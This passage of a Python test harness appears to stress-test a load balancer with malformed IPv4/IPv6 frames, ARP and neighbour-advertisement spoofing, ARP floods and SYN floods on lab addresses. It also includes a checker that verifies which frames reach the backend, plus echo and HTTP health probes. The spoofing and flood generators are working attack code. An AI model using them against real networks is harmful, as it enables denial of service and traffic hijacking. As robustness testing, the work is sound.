    @kind("icmp_bad_checksum")
    def _(r):
        if r.random() < 0.5:
            f = b(E(r) / IP(src=rsrc(r), dst=r.choice([vip, lb_ip])) / ICMP(type=8, id=r.randrange(65536)) / Raw(os.urandom(32)))
        else:
            f = b(E(r) / IP(src=rsrc(r), dst=vip) / ICMP(type=3, code=4) / IPerror(src=vip, dst=rsrc(r)) / TCPerror(sport=tport, dport=r.randrange(1024, 65535)))
        corrupt16(f, 34 + 2)
        return bytes(f)

    @kind("icmp_truncated")
    def _(r):
        f = b(E(r) / IP(src=rsrc(r), dst=vip) / ICMP(type=8))
        cut = r.randrange(0, 8)
        return patch_ip(bytearray(f[: 34 + cut]), total=20 + cut)

    @kind("icmp_odd_types")
    def _(r):
        return bytes(b(E(r) / IP(src=rsrc(r), dst=r.choice([vip, lb_ip])) / ICMP(type=r.choice([5, 9, 10, 13, 15, 17, 40, 255]), code=r.randrange(256)) / Raw(os.urandom(16))))

    @kind("icmp6_error_quoting_vip_flow")
    def _(r):
        cl = rsrc6(r)
        inner = IPerror6(src=vip6, dst=cl) / TCPerror(sport=tport, dport=r.randrange(1024, 65535), flags="SA")
        icmp = r.choice([ICMPv6PacketTooBig(mtu=r.choice([0, 68, 1279, 1280])), ICMPv6DestUnreach(code=r.choice([1, 3, 4]))])
        return bytes(b(E(r) / IPv6(src=cl, dst=vip6) / icmp / inner))

    @kind("icmp6_bad_checksum")
    def _(r):
        f = b(E(r) / IPv6(src=rsrc6(r), dst=r.choice([vip6, lb_ip6])) / ICMPv6EchoRequest(id=r.randrange(65536), data=os.urandom(16)))
        corrupt16(f, 54 + 2)
        return bytes(f)

    @kind("nd_invalid")
    def _(r):
        c = r.randrange(4)
        src = rsrc6(r)
        if c == 0:  # hop limit not 255
            p = IPv6(src=src, dst=lb_ip6, hlim=r.choice([1, 64, 254])) / ICMPv6ND_NS(tgt=lb_ip6) / ICMPv6NDOptSrcLLAddr(lladdr=rmac(r))
        elif c == 1:  # option length 0
            p = IPv6(src=src, dst=lb_ip6, hlim=255) / ICMPv6ND_NS(tgt=lb_ip6) / Raw(bytes([1, 0]) + os.urandom(6))
        elif c == 2:  # NA for the client from a stranger, hop limit 64 (must be ignored)
            p = IPv6(src=src, dst="ff02::1", hlim=64) / ICMPv6ND_NA(tgt="fd00::2", R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=evil)
        else:  # code != 0, truncated body
            p = IPv6(src=src, dst=lb_ip6, hlim=255) / ICMPv6ND_NS(tgt=lb_ip6, code=r.randrange(1, 256))
        return bytes(b(E(r) / p))

    # ---- IPv6 header and extension headers
    @kind("ipv6_truncated_header")
    def _(r):
        f = b(E(r) / IPv6(src=rsrc6(r), dst=vip6) / syn(r))
        return bytes(f[: 14 + r.randrange(1, 40)])

    @kind("ipv6_bad_version")
    def _(r):
        f = b(E(r) / IPv6(src=rsrc6(r), dst=vip6) / syn(r))
        f[14] = (r.choice([0, 4, 7, 15]) << 4) | (f[14] & 0x0F)
        return bytes(f)

    @kind("ipv6_payload_len_over_frame")
    def _(r):
        f = b(E(r) / IPv6(src=rsrc6(r), dst=vip6) / syn(r))
        put16(f, 18, len(f) - 54 + r.randrange(1, 1000))
        return bytes(f)

    @kind("ipv6_payload_len_cuts_l4")
    def _(r):
        f = b(E(r) / IPv6(src=rsrc6(r), dst=vip6) / syn(r))
        put16(f, 18, r.randrange(0, 20))
        return bytes(f)

    @kind("ipv6_ext_chain_valid")
    def _(r):
        exts = r.choice([IPv6ExtHdrHopByHop(), IPv6ExtHdrDestOpt(), IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt()])
        return bytes(b(E(r) / IPv6(src=rsrc6(r), dst=vip6) / exts / syn(r)))

    @kind("ipv6_ext_chain_long")
    def _(r):
        p = IPv6(src=rsrc6(r), dst=vip6)
        for _ in range(r.randrange(8, 60)):
            p = p / IPv6ExtHdrDestOpt()
        return bytes(b(E(r) / p / syn(r)))

    @kind("ipv6_ext_hbh_not_first")
    def _(r):
        return bytes(b(E(r) / IPv6(src=rsrc6(r), dst=vip6) / IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop() / syn(r)))

    @kind("ipv6_ext_len_past_end")
    def _(r):
        f = b(E(r) / IPv6(src=rsrc6(r), dst=vip6) / IPv6ExtHdrDestOpt() / syn(r))
        f[54 + 1] = r.choice([10, 100, 255])
        return bytes(f)

    @kind("ipv6_routing_header_type0")
    def _(r):
        return bytes(b(E(r) / IPv6(src=rsrc6(r), dst=vip6) / IPv6ExtHdrRouting(type=0, segleft=r.choice([0, 1]), addresses=["fd01::11"]) / syn(r)))

    @kind("ipv6_fragments")
    def _(r):
        ident = r.getrandbits(32)
        src = rsrc6(r)
        c = r.randrange(3)
        if c == 0:  # atomic fragment
            p = IPv6ExtHdrFragment(id=ident, m=0, offset=0) / syn(r)
        elif c == 1:  # tiny first fragment
            p = IPv6ExtHdrFragment(id=ident, m=1, offset=0, nh=6) / Raw(os.urandom(8))
        else:  # middle without first
            p = IPv6ExtHdrFragment(id=ident, m=1, offset=r.randrange(1, 100), nh=6) / Raw(os.urandom(24))
        return bytes(b(E(r) / IPv6(src=src, dst=vip6) / p))

    @kind("ipv6_hop_limit_0_1")
    def _(r):
        return bytes(b(E(r) / IPv6(src=rsrc6(r), dst=vip6, hlim=r.choice([0, 1])) / syn(r)))

    @kind("ipv6_martian_source")
    def _(r):
        src = r.choice(["ff02::1", "ff05::2", "::1", "::", vip6, lb_ip6, "::ffff:10.0.0.2"])
        return bytes(b(E(r) / IPv6(src=src, dst=vip6) / syn(r)))

    @kind("ipv6_multicast_dst")
    def _(r):
        return bytes(b(Ether(dst="33:33:00:00:00:01", src=rmac(r)) / IPv6(src=rsrc6(r), dst="ff02::1") / syn(r)))

    # ---- Tunnels
    @kind("ipip_to_vip_or_lb")
    def _(r):
        inner = IP(src=rsrc(r), dst=vip) / syn(r)
        return bytes(b(E(r) / IP(src=rsrc(r), dst=r.choice([vip, lb_ip]), proto=4) / inner))

    @kind("ip6ip6_and_4in6")
    def _(r):
        inner = r.choice([IPv6(src=rsrc6(r), dst=vip6) / syn(r), IP(src=rsrc(r), dst=vip) / syn(r)])
        return bytes(b(E(r) / IPv6(src=rsrc6(r), dst=r.choice([vip6, lb_ip6])) / inner))

    @kind("gre_to_vip_or_lb")
    def _(r):
        inner = IP(src=rsrc(r), dst=vip) / syn(r)
        return bytes(b(E(r) / IP(src=rsrc(r), dst=r.choice([vip, lb_ip])) / GRE(proto=0x0800) / inner))

    @kind("gue_to_vip_or_lb")
    def _(r):
        inner = bytes(IP(src=rsrc(r), dst=vip) / syn(r))
        gue = bytes([0x00, 4, 0, 0])  # version 0, hlen 0, proto 4 (IPv4)
        return bytes(b(E(r) / IP(src=rsrc(r), dst=r.choice([vip, lb_ip])) / UDP(sport=r.randrange(1024, 65535), dport=a.gue_port) / Raw(gue + inner)))

    return K


def cmd_storm(a, synflood_only=False):
    rng = random.Random(a.seed)
    frames = []
    t_build = time.monotonic()
    if not synflood_only:
        kinds = storm_kinds(a)
        if a.list_kinds:
            print(" ".join(n for n, _ in kinds))
            return
        skip = set(filter(None, a.skip.split(",")))
        unknown = skip - {n for n, _ in kinds}
        if unknown:
            sys.exit(f"storm: unknown kinds {sorted(unknown)}")
        pools = []
        for name, fn in kinds:
            if name in skip:
                continue
            pool = []
            for _ in range(a.variants):
                out = fn(rng)
                pool.append(out if isinstance(out, list) else [out])
            pools.append((name, pool))
        n = 0
        i = 0
        while n < a.count:
            name, pool = pools[i % len(pools)]
            for fr in rng.choice(pool):
                frames.append((name, fr))
                n += 1
            i += 1
    syn = synflood_frames(a, rng, a.syn_count)
    # Interleave the SYN flood evenly with the malformed frames.
    if frames and syn:
        merged, step, j = [], len(frames) / len(syn), 0
        for k, fr in enumerate(frames):
            merged.append(fr)
            while j < len(syn) and j * step <= k:
                merged.append(syn[j])
                j += 1
        merged.extend(syn[j:])
        frames = merged
    else:
        frames = frames or syn
    built = time.monotonic() - t_build
    counts, refused, secs = send_frames(a.iface, frames, a.rate)
    name = "synflood" if synflood_only else "storm"
    summary(f"{name} (built in {built:.1f} s)", counts, refused, secs)


def synflood_frames(a, rng, count):
    lb, vip = mac_b(a.lb_mac), ip4_b(a.vip)
    out = []
    for _ in range(count):
        if rng.random() < 0.5:
            src = bytes([10, 0, 0, rng.randrange(3, 99)])
        else:
            src = bytes([198, 18 + rng.randrange(2), rng.randrange(256), rng.randrange(1, 255)])
        out.append(("syn_flood", syn4(lb, rand_mac(rng), src, vip, rng.randrange(1024, 65535), a.tcp_port, rng.getrandbits(32))))
    return out


# --------------------------------------------------------------------------------------------
# sniff-check


class Checker:
    """Verifies captured frames; counts by verdict; lists violations (and warnings)."""

    def __init__(self):
        self.counts = {}
        self.violations = []
        self.warnings = {}
        self.tags = {}

    def count(self, k):
        self.counts[k] = self.counts.get(k, 0) + 1

    def bad(self, what, f, detail=""):
        self.violations.append(f"{what}: {detail} [{len(f)} bytes {bytes(f[:80]).hex()}]")

    def warn(self, what):
        self.warnings[what] = self.warnings.get(what, 0) + 1

    def tag(self, payload):
        i = payload.find(b"LBTAG:")
        if i >= 0:
            j = i + 6
            k = j
            while k < len(payload) and payload[k] not in b" \n\r\0":
                k += 1
            t = payload[j:k].decode(errors="replace")
            self.tags[t] = self.tags.get(t, 0) + 1
            return t
        return None

    def frame(self, f):
        if len(f) < 14:
            return self.bad("l2_truncated", f)
        et = get16(f, 12)
        if et in (0x8100, 0x88A8, 0x9100):
            return self.bad("vlan_tagged", f, "a tagged frame reached the backend")
        if et == 0x0800:
            return self.ipv4(f, 14)
        if et == 0x86DD:
            return self.ipv6(f, 14)
        self.count("non_ip")

    def ipv4(self, f, o):
        self.count("ipv4")
        if len(f) < o + 20:
            return self.bad("ipv4_truncated", f)
        ver, ihl = f[o] >> 4, (f[o] & 0xF) * 4
        total = get16(f, o + 2)
        if ver != 4:
            return self.bad("ipv4_bad_version", f, f"version {ver}")
        if ihl < 20:
            return self.bad("ipv4_bad_ihl", f, f"ihl {ihl}")
        if total < ihl or o + total > len(f):
            return self.bad("ipv4_bad_total_length", f, f"total {total} ihl {ihl} frame {len(f) - o}")
        if ones_sum(f[o : o + ihl]) != 0xFFFF:
            return self.bad("ipv4_bad_header_checksum", f)
        ttl, proto = f[o + 8], f[o + 9]
        src, dst = bytes(f[o + 12 : o + 16]), bytes(f[o + 16 : o + 20])
        if ttl == 0:
            self.warn("ipv4_ttl_0")
        if ihl > 20:
            self.warn("ipv4_options")
            opts = f[o + 20 : o + ihl]
            if not self.options_ok(opts):
                self.warn("ipv4_malformed_options")
            elif opts[0] in (131, 137):
                self.warn("ipv4_source_route")
        s = ipaddress.IPv4Address(src)
        if s.is_multicast or s.is_loopback or s.is_unspecified or src == b"\xff" * 4:
            self.warn("ipv4_martian_source")
        if len(f) > o + total:
            self.warn("trailing_bytes_after_ip_total_length")
        ff = get16(f, o + 6)
        more, off = bool(ff & 0x2000), (ff & 0x1FFF) * 8
        l4 = f[o + ihl : o + total]
        ph = lambda n: pseudo4(src, dst, proto, n)  # noqa: E731
        if more or off:
            self.count("ipv4_fragment")
            if off == 0:
                return self.l4_header_only(proto, l4, f)
            if off == 8 and proto == 6:
                self.warn("tcp_fragment_offset_1 (RFC 1858)")
            return
        return self.l4(proto, l4, ph, f, v6=False)

    @staticmethod
    def options_ok(opts):
        i = 0
        while i < len(opts):
            t = opts[i]
            if t == 0:
                return True
            if t == 1:
                i += 1
                continue
            if i + 1 >= len(opts) or opts[i + 1] < 2 or i + opts[i + 1] > len(opts):
                return False
            i += opts[i + 1]
        return True

    def ipv6(self, f, o):
        self.count("ipv6")
        if len(f) < o + 40:
            return self.bad("ipv6_truncated", f)
        if f[o] >> 4 != 6:
            return self.bad("ipv6_bad_version", f, f"version {f[o] >> 4}")
        plen = get16(f, o + 4)
        if o + 40 + plen > len(f):
            return self.bad("ipv6_bad_payload_length", f, f"payload length {plen} frame {len(f) - o - 40}")
        src, dst = bytes(f[o + 8 : o + 24]), bytes(f[o + 24 : o + 40])
        if f[o + 7] == 0:
            self.warn("ipv6_hop_limit_0")
        s = ipaddress.IPv6Address(src)
        if s.is_multicast or s.is_loopback or s.is_unspecified:
            self.warn("ipv6_martian_source")
        end = o + 40 + plen
        nh, at, first = f[o + 6], o + 40, True
        frag = None
        for _ in range(64):
            if nh in (0, 43, 60):
                if nh == 0 and not first:
                    return self.bad("ipv6_hop_by_hop_not_first", f)
                if at + 8 > end or at + (f[at + 1] + 1) * 8 > end:
                    return self.bad("ipv6_ext_header_truncated", f)
                if nh == 43:
                    rtype, segleft = f[at + 2], f[at + 3]
                    if rtype == 0:
                        self.warn("ipv6_routing_header_type_0")
                    if segleft > 0:
                        # The packet is not at its destination yet: a source route through the
                        # backend (and its L4 checksum covers the route's final address).
                        return self.bad("ipv6_routing_header_segments_left", f, f"type {rtype}, {segleft} left")
                nxt, at = f[at], at + (f[at + 1] + 1) * 8
                nh = nxt
            elif nh == 44:
                if at + 8 > end:
                    return self.bad("ipv6_ext_header_truncated", f)
                fo = get16(f, at + 2)
                frag = (fo & 0xFFF8, fo & 1)
                nh, at = f[at], at + 8
            elif nh == 51:
                if at + 8 > end:
                    return self.bad("ipv6_ext_header_truncated", f)
                nxt, at = f[at], at + (f[at + 1] + 2) * 4
                nh = nxt
            else:
                break
            first = False
        else:
            return self.bad("ipv6_ext_chain_too_long", f)
        if at > end:
            return self.bad("ipv6_ext_header_truncated", f)
        l4 = f[at:end]
        if frag and (frag[0] or frag[1]):
            self.count("ipv6_fragment")
            if frag[0] == 0:
                return self.l4_header_only(nh, l4, f)
            return
        ph = lambda n: pseudo6(src, dst, nh, n)  # noqa: E731
        return self.l4(nh, l4, ph, f, v6=True)

    def l4_header_only(self, proto, l4, f):
        if proto == 6:
            if len(l4) < 20 or len(l4) < (l4[12] >> 4) * 4:
                return self.bad("tcp_header_split_across_fragments", f, f"first fragment holds {len(l4)} bytes of TCP")
        elif proto == 17 and len(l4) < 8:
            return self.bad("udp_header_split_across_fragments", f, f"first fragment holds {len(l4)} bytes of UDP")

    def l4(self, proto, l4, ph, f, v6):
        fam = "6" if v6 else "4"
        if proto == 6:
            self.count("tcp" + fam)
            if len(l4) < 20:
                return self.bad("tcp_truncated", f, f"{len(l4)} bytes")
            doff = (l4[12] >> 4) * 4
            t = self.tag(bytes(l4[doff:])) if doff <= len(l4) else None
            if doff < 20 or doff > len(l4):
                return self.bad("tcp_bad_data_offset", f, f"data offset {doff} segment {len(l4)} tag {t}")
            if ones_sum(l4, ph(len(l4))) != 0xFFFF:
                return self.bad("tcp_bad_checksum", f, f"tag {t}")
            flags = l4[13]
            if (flags & 0x03) == 0x03 or (flags & 0x06) == 0x06 or (flags & 0x3F) == 0 or (flags & 0x3F) == 0x3F:
                self.warn("tcp_odd_flags")
        elif proto == 17:
            self.count("udp" + fam)
            if len(l4) < 8:
                return self.bad("udp_truncated", f, f"{len(l4)} bytes")
            ulen, c = get16(l4, 4), get16(l4, 6)
            if ulen < 8 or ulen > len(l4):
                return self.bad("udp_bad_length", f, f"length field {ulen} payload {len(l4)}")
            t = self.tag(bytes(l4[8:ulen]))
            if ulen < len(l4):
                self.warn("udp_length_under_ip_payload")
            if c == 0:
                if v6:
                    return self.bad("udp6_zero_checksum", f, f"tag {t}")
            elif ones_sum(l4[:ulen], ph(ulen)) != 0xFFFF:
                return self.bad("udp_bad_checksum", f, f"tag {t}")
        elif proto == 1 and not v6:
            self.count("icmp4")
            if len(l4) < 8:
                return self.bad("icmp_truncated", f)
            if ones_sum(l4) != 0xFFFF:
                return self.bad("icmp_bad_checksum", f)
        elif proto == 58 and v6:
            self.count("icmp6")
            if len(l4) < 4:
                return self.bad("icmp6_truncated", f)
            if ones_sum(l4, ph(len(l4))) != 0xFFFF:
                return self.bad("icmp6_bad_checksum", f)
        else:
            self.count(f"ip_proto_{proto}")


def cmd_sniff_check(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    try:
        s.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE
    except OSError:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
    s.bind((a.iface, 0))
    # Frames queued before the bind may come from other interfaces: drain them.
    s.setblocking(False)
    try:
        while True:
            s.recv(65536)
    except BlockingIOError:
        pass
    s.settimeout(0.2)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    if a.ready:
        with open(a.ready, "w") as fh:
            fh.write("ready\n")
    frames = []
    outgoing = 0
    deadline = time.monotonic() + a.duration
    while not stop.is_set() and time.monotonic() < deadline:
        try:
            data, addr = s.recvfrom(65536)
        except socket.timeout:
            continue
        except InterruptedError:
            continue
        if addr[2] == PACKET_OUTGOING:
            outgoing += 1
            continue
        frames.append(data)
    st = s.getsockopt(SOL_PACKET, PACKET_STATISTICS, 8)
    _, drops = struct.unpack("II", st)
    s.close()
    c = Checker()
    for fr in frames:
        c.frame(bytearray(fr))
    counts = " ".join(f"{k}={v}" for k, v in sorted(c.counts.items()))
    warns = " ".join(f"{k}={v}" for k, v in sorted(c.warnings.items())) or "none"
    tags = " ".join(f"{k}={v}" for k, v in sorted(c.tags.items())) or "none"
    for v in c.violations[: a.max_print] if a.max_print else c.violations:
        print(f"violation {v}")
    if a.max_print and len(c.violations) > a.max_print:
        print(f"... and {len(c.violations) - a.max_print} more violations")
    by_kind = {}
    for v in c.violations:
        k = v.split(":", 1)[0]
        by_kind[k] = by_kind.get(k, 0) + 1
    print(f"tags {tags}")
    print(f"warnings {warns}")
    print(
        f"sniff-check {a.iface}: {len(frames)} frames in, {outgoing} out, {drops} dropped by the capture socket; "
        f"{counts}; violations {len(c.violations)}"
        + ("" if not by_kind else " (" + " ".join(f"{k}={v}" for k, v in sorted(by_kind.items())) + ")"),
        flush=True,
    )
    sys.exit(1 if c.violations else 0)


# --------------------------------------------------------------------------------------------
# echo-server, echo-client, probe


def cmd_echo_server(a):
    import socketserver

    class Echo(socketserver.BaseRequestHandler):
        def handle(self):
            self.request.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            while True:
                try:
                    d = self.request.recv(65536)
                except OSError:
                    return
                if not d:
                    return
                self.request.sendall(d)

    class Server(socketserver.ThreadingTCPServer):
        address_family = socket.AF_INET6
        allow_reuse_address = True
        daemon_threads = True
        request_queue_size = 128

        def server_bind(self):
            self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            super().server_bind()

    srv = Server(("::", a.port), Echo)
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    srv.serve_forever()


def split_target(t):
    host, _, port = t.rpartition(":")
    return host.strip("[]"), int(port)


def cmd_echo_client(a):
    host, port = split_target(a.target)
    t0 = time.monotonic()
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    sent_at, got_at = {}, {}
    state = {"error": None, "last": t0}
    out = sys.stdout

    def log(msg):
        out.write(f"t={time.monotonic() - t0:7.2f} {msg}\n")
        out.flush()

    try:
        sock = socket.create_connection((host, port), timeout=a.connect_timeout)
    except OSError as e:
        print("summary " + json.dumps({"target": a.target, "connected": False, "dead": True, "error": str(e)}), flush=True)
        sys.exit(1)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(0.2)
    log(f"connected to {a.target} from {sock.getsockname()}")

    def reader():
        buf = b""
        while not stop.is_set():
            try:
                d = sock.recv(4096)
            except socket.timeout:
                continue
            except OSError as e:
                state["error"] = state["error"] or f"recv: {e}"
                log(f"connection error: {e}")
                stop.set()
                return
            if not d:
                state["error"] = state["error"] or "closed by peer"
                log("connection closed by the peer")
                stop.set()
                return
            buf += d
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                try:
                    seq = int(line.split()[0])
                except (ValueError, IndexError):
                    state["error"] = state["error"] or f"garbled echo {line[:40]!r}"
                    log(f"garbled echo {line[:40]!r}")
                    continue
                now = time.monotonic()
                if seq not in got_at:
                    got_at[seq] = now
                    state["last"] = now
                    late = now - sent_at.get(seq, now)
                    if late > 1.0:
                        log(f"echo of line {seq} came {late:.1f} s late")

    th = threading.Thread(target=reader, daemon=True)
    th.start()
    seq = 0
    end = t0 + a.duration
    last_warn = 0.0
    while not stop.is_set() and time.monotonic() < end:
        seq += 1
        sent_at[seq] = time.monotonic()
        try:
            sock.sendall(f"{seq} {time.time():.3f} held-connection\n".encode())
        except OSError as e:
            state["error"] = state["error"] or f"send: {e}"
            log(f"send failed: {e}")
            break
        stop.wait(a.interval)
        # Log a gap as it happens, once a second.
        last = state["last"]
        now = time.monotonic()
        if now - last > 1.0 and now - last_warn > 1.0:
            log(f"no echo for {now - last:.1f} s (sent {seq}, echoed {len(got_at)})")
            last_warn = now
    stop.set()
    th.join(timeout=1)
    t_end = time.monotonic()
    times = sorted(list(got_at.values()))
    points = [t0] + times + [t_end]
    max_gap = max(b - a_ for a_, b in zip(points, points[1:]))
    unanswered = sorted(set(sent_at) - set(got_at))
    # The last line may still be in flight: only lines older than a second count as lost.
    lost = [s for s in unanswered if t_end - sent_at[s] > 1.0]
    res = {
        "target": a.target,
        "connected": True,
        "local": str(sock.getsockname()[:2]),
        "seconds": round(t_end - t0, 2),
        "sent": seq,
        "echoed": len(got_at),
        "lost": len(lost),
        "max_gap_s": round(max_gap, 2),
        "last_echo_age_s": round(t_end - times[-1], 2) if times else None,
        "dead": state["error"] is not None,
        "error": state["error"],
    }
    sock.close()
    print("summary " + json.dumps(res), flush=True)


def http_get(host, port, timeout, expect):
    deadline = time.monotonic() + timeout
    try:
        with socket.create_connection((host, port), timeout=timeout) as s:
            s.sendall(f"GET / HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
            data = b""
            while time.monotonic() < deadline:
                s.settimeout(max(0.01, deadline - time.monotonic()))
                d = s.recv(4096)
                if not d:
                    break
                data += d
            return expect.encode() in data
    except OSError:
        return False


def cmd_probe(a):
    host, port = split_target(a.target)
    t0 = time.monotonic()
    if a.until_ok:
        tries = 0
        while True:
            tries += 1
            if http_get(host, port, a.timeout, a.expect):
                print(f"probe {a.target}: answered after {time.monotonic() - t0:.2f} s ({tries} tries)", flush=True)
                return
            if time.monotonic() - t0 >= a.deadline:
                print(f"probe {a.target}: not answered within {a.deadline} s ({tries} tries)", flush=True)
                sys.exit(1)
            time.sleep(max(0.0, min(a.interval, a.deadline - (time.monotonic() - t0))))
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    results = []
    lock = threading.Lock()

    def one(i):
        ok = http_get(host, port, a.timeout, a.expect)
        with lock:
            results.append((i, ok))

    threads = []
    i = 0
    while not stop.is_set() and time.monotonic() - t0 < a.duration:
        th = threading.Thread(target=one, args=(i,), daemon=True)
        th.start()
        threads.append(th)
        i += 1
        stop.wait(max(0.0, t0 + i * a.interval - time.monotonic()))
    for th in threads:
        th.join(timeout=a.timeout + 1)
    ok = sum(1 for _, r in results if r)
    failed = sorted(i for i, r in results if not r)
    print(
        f"probe {a.target}: {ok} of {i} answered"
        + (f"; unanswered probes at t={','.join(f'{x * a.interval:.1f}' for x in failed[:40])}" if failed else ""),
        flush=True,
    )


# --------------------------------------------------------------------------------------------


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)

    def attack(name, **kw):
        s = sub.add_parser(name, **kw)
        s.add_argument("--iface", required=True, help="interface to send from (raw AF_PACKET socket)")
        s.add_argument("--lb-mac", required=True, help="the LB's MAC on this segment")
        s.add_argument("--seed", type=int, default=11)
        return s

    s = attack("spoof-arp")
    s.add_argument("--victim-ip", default="10.0.0.2")
    s.add_argument("--lb-ip", default="10.0.0.1")
    s.add_argument("--mac", default="02:66:66:66:66:66", help="the foreign MAC claimed for the victim")
    s.add_argument("--repeat", type=int, default=1)

    s = attack("spoof-na")
    s.add_argument("--victim-ip6", default="fd00::2")
    s.add_argument("--lb-ip6", default="fd00::1")
    s.add_argument("--mac", default="02:66:66:66:66:66")
    s.add_argument("--repeat", type=int, default=1)

    s = attack("arp-flood")
    s.add_argument("--count", type=int, default=100000, help="spoofed senders (frames)")
    s.add_argument("--net", default="10.0.0.0/16", help="sender addresses (ARP)")
    s.add_argument("--exclude", default="10.0.0.1,10.0.0.2,10.0.0.100", help="addresses never claimed")
    s.add_argument("--ns-net", default="fd00::/64", help="sender addresses (neighbour solicitations)")
    s.add_argument("--kinds", default="reply,garp,req-lb,req-vip,ns")
    s.add_argument("--lb-ip", default="10.0.0.1")
    s.add_argument("--lb-ip6", default="fd00::1")
    s.add_argument("--vip", default="10.0.0.100")
    s.add_argument("--rate", type=float, default=50000)

    s = attack("cksum")
    s.add_argument("--src-mac", required=True, help="the client's own MAC")
    s.add_argument("--client-ip", default="10.0.0.2")
    s.add_argument("--client-ip6", default="fd00::2")
    s.add_argument("--vip", default="10.0.0.100")
    s.add_argument("--vip6", default="fd00::100")
    s.add_argument("--tcp-port", type=int, default=80)
    s.add_argument("--udp-port", type=int, default=5300)
    s.add_argument("--count", type=int, default=20, help="flows of each kind and family")
    s.add_argument("--rate", type=float, default=2000)

    for name in ("storm", "synflood"):
        s = attack(name)
        s.add_argument("--vip", default="10.0.0.100")
        s.add_argument("--vip6", default="fd00::100")
        s.add_argument("--lb-ip", default="10.0.0.1")
        s.add_argument("--lb-ip6", default="fd00::1")
        s.add_argument("--client-ip", default="10.0.0.2", help="victim of the storm's ARP spoofing")
        s.add_argument("--mac", default="02:66:66:66:66:66")
        s.add_argument("--tcp-port", type=int, default=80)
        s.add_argument("--udp-port", type=int, default=5300)
        s.add_argument("--gue-port", type=int, default=6080)
        s.add_argument("--rate", type=float, default=5000, help="frames per second (all kinds)")
        s.add_argument("--syn-count", type=int, default=20000 if name == "storm" else 50000)
        if name == "storm":
            s.add_argument("--count", type=int, default=40000, help="malformed frames")
            s.add_argument("--variants", type=int, default=32, help="prebuilt variants per kind")
            s.add_argument("--skip", default="", help="kinds left out (comma-separated)")
            s.add_argument("--list-kinds", action="store_true", help="print the kinds and exit")

    s = sub.add_parser("sniff-check")
    s.add_argument("--iface", required=True)
    s.add_argument("--duration", type=float, default=30)
    s.add_argument("--ready", help="file written once capturing")
    s.add_argument("--max-print", type=int, default=0, help="print at most this many violations (0: all)")

    s = sub.add_parser("echo-server")
    s.add_argument("--port", type=int, default=7000)

    s = sub.add_parser("echo-client")
    s.add_argument("--target", required=True, help="HOST:PORT or [V6]:PORT")
    s.add_argument("--interval", type=float, default=0.2)
    s.add_argument("--duration", type=float, default=120)
    s.add_argument("--connect-timeout", type=float, default=5)

    s = sub.add_parser("probe")
    s.add_argument("--target", required=True)
    s.add_argument("--interval", type=float, default=0.1)
    s.add_argument("--duration", type=float, default=10)
    s.add_argument("--timeout", type=float, default=2)
    s.add_argument("--expect", default="backend-")
    s.add_argument("--until-ok", action="store_true")
    s.add_argument("--deadline", type=float, default=5)

    a = p.parse_args()
    {
        "spoof-arp": cmd_spoof_arp,
        "spoof-na": cmd_spoof_na,
        "arp-flood": cmd_arp_flood,
        "cksum": cmd_cksum,
        "storm": cmd_storm,
        "synflood": lambda a: cmd_storm(a, synflood_only=True),
        "sniff-check": cmd_sniff_check,
        "echo-server": cmd_echo_server,
        "echo-client": cmd_echo_client,
        "probe": cmd_probe,
    }[a.cmd](a)


if __name__ == "__main__":
    main()
